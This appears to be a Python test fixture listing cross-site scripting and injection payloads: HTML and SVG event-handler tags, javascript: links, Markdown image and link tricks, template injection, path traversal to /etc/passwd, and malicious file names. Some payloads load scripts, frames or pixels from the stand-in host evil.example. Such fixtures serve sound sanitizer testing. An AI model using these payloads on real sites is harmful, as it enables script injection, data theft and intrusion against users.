# ruff: noqa: E501
"""Texts that try to run a script, to load something, or to look like a part of the page: Markdown, HTML, addresses."""

_CALL = "window.pwned=1"
_TAGS = (
    "<script>{0}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>{0}</scr</script>ipt>",
    "<script\n>{0}</script\n>", "<script/x>{0}</script>", "</textarea><script>{0}</script>", "--><script>{0}</script>",
    "]]><script>{0}</script>", "<!--<script>{0}</script>-->", "<![CDATA[<script>{0}</script>]]>",
    "<img src=x onerror={0}>", "<img src=x onerror='{0}'>", '<img src="x" onerror="{0}">', "<img/src=x/onerror={0}>",
    "<img src=x:x onerror={0}>", "<img src=x oneonerrorrror={0}>", "<IMG SRC=javascript:{0}>",
    "<img src=`x` onerror={0}>", "<img src=x onerror=&#119;indow.pwned=1>", "<img srcset='x 1x' onerror={0}>",
    "<svg onload={0}>", "<svg/onload={0}>", "<svg><script>{0}</script></svg>", "<svg><animate onbegin={0} attributeName=x>",
    "<svg><set onbegin={0} attributename=x>", "<svg><a xlink:href='javascript:{0}'><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={0}>#x'></use></svg>", "<svg><style><img src=x onerror={0}></style></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{0}</script>'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={0}></style></mglyph></table></mtext></math>",
    "<math href='javascript:{0}'>click</math>", "<math><maction actiontype='statusline#' xlink:href='javascript:{0}'>x</maction></math>",
    "<body onload={0}>", "<body onpageshow={0}>", "<html onmouseover={0}>", "<iframe src='javascript:{0}'></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.{0}&lt;/script&gt;'></iframe>", "<iframe src=//evil.example></iframe>",
    "<object data='javascript:{0}'></object>", "<object data=//evil.example/x.swf></object>", "<embed src='javascript:{0}'>",
    "<embed src=//evil.example/x.svg>", "<applet code=x></applet>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example>", "<style>@import '//evil.example/x.css';</style>",
    "<style>*{{background:url('javascript:{0}')}}</style>", "<div style='background:url(javascript:{0})'>x</div>",
    "<div style='width:expression({0})'>x</div>", "<div style='position:fixed;inset:0'>cover</div>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>", "<form action='javascript:{0}'><input type=submit></form>",
    "<form><button formaction='javascript:{0}'>x</button></form>", "<form action=//evil.example><input name=csrf></form>",
    "<input onfocus={0} autofocus>", "<select onfocus={0} autofocus>", "<textarea onfocus={0} autofocus>",
    "<keygen onfocus={0} autofocus>", "<details open ontoggle={0}>x</details>", "<video><source onerror={0}></video>",
    "<video src=x onerror={0}>", "<audio src=x onerror={0}>", "<video poster=javascript:{0}></video>", "<marquee onstart={0}>x</marquee>",
    "<isindex action=javascript:{0} type=image>", "<a href='javascript:{0}'>x</a>", "<a href='JaVaScRiPt:{0}'>x</a>",
    "<a href='java\tscript:{0}'>x</a>", "<a href='&#106;avascript:{0}'>x</a>", "<a href='\x01javascript:{0}'>x</a>",
    "<a href='vbscript:{0}'>x</a>", "<a href='data:text/html,<script>{0}</script>'>x</a>", "<a onclick={0}>x</a>",
    "<b onmouseover={0} style='font-size:99em'>x</b>", "<p id=csrf name=csrf>x</p>", "<img name=getElementById>",
    "<a id=answer href=//evil.example>x</a>", "<form id=answer><input id=save></form>", "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<template><script>{0}</script></template>", "<xss id=x tabindex=1 onfocus={0}></xss>", "<dialog open onclose={0}>x</dialog>",
    "<button popovertarget=x>x</button><div popover id=x onbeforetoggle={0}>x</div>", "<p onanimationstart={0} style='animation:x'>x</p>",
)  # fmt: skip
_MARKDOWN = (
    "[x](javascript:{0})", "[x](JAVASCRIPT:{0})", "[x](java&#115;cript:{0})", "[x](javascript&colon;{0})", "[x]( javascript:{0})",
    "[x](<javascript:{0}>)", "[x](vbscript:{0})", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](file:///etc/passwd)",
    "[x]: javascript:{0}\n\n[x]", "![x](javascript:{0})", "![x](x\"onerror=\"{0})", "![\"onerror=\"{0}](x.png)",
    "![x](https://evil.example/pixel.png)", "![x](//evil.example/pixel.png)", "![x](data:image/svg+xml,<svg onload={0}>)",
    "![x](../../etc/passwd.png)", "![x](/etc/passwd.png)", "![x](..%2f..%2fsecret.png)", "<javascript:{0}>", "<http://x.example/\"onclick=\"{0}>",
    "`<script>{0}</script>`", "```\n<script>{0}</script>\n```", "```\"><script>{0}</script>\nx\n```", "```x\" onload=\"{0}\nx\n```",
    "    <script>{0}</script>", "> <script>{0}</script>", "| <script>{0}</script> |\n|---|\n| <img src=x onerror={0}> |",
    "$<script>{0}</script>$", "$$<img src=x onerror={0}>$$", "\\(<svg onload={0}>\\)", "# <script>{0}</script>", "[<img src=x onerror={0}>](http://x.example)",
    "**<script>{0}</script>**", "&lt;script&gt;{0}&lt;/script&gt;", "&#60;script&#62;{0}&#60;/script&#62;", "\\<script>{0}</script>",
    "{{{{7*7}}}}{{{{constructor.constructor('{0}')()}}}}", "${{{0}}}", "\u202e<script>{0}</script>", "\0<script>{0}</script>", "<scr\0ipt>{0}</script>",
)  # fmt: skip
ATTACKS = tuple(each.format(_CALL) for each in (*_TAGS, *_MARKDOWN))

# names of people: at most 60 printable signs
NAMES = tuple(each for each in ATTACKS if len(each) <= 60 and each.isprintable())
_FILES = (
    "x.png' onerror='{0}", 'x.png" onerror="{0}".png', "<script>{0}</script>.png", "<img src=x onerror={0}>.png",
    "javascript:{0}.png", "x.svg", "x.png.html", "..\\\\x.png", "....//x.png", "%2e%2e/x.png", "x.png?<script>{0}</script>",
    "x.png#<svg onload={0}>.png", "\u202egnp.{0}", "x\n<script>{0}</script>.png", "data:image/png,{0}.png", "//evil.example/x.png",
)  # fmt: skip
FILES = tuple(each.format(_CALL) for each in _FILES)
